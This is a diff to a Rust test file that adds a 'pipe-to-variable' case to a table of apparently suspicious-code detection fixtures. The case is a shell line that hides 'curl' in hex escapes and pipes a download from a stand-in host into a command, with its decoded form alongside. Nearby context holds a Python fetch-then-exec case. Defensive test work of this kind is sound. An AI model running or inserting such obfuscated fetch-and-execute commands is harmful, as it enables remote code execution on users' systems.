@@ -65,6 +65,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "ast.literal_eval(code)",
     ),
     (
+        "pipe-to-variable",
+        "scripts/x.sh",
+        "c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s https://x.example.net/t | $s",
+        "c=$(printf '%s' curl)\n$c -s https://x.example.net/t | $s",
+    ),
+    (
         "eval-fetched",
         "scripts/x.py",
         "code = requests.get(url).text\nexec(code)",
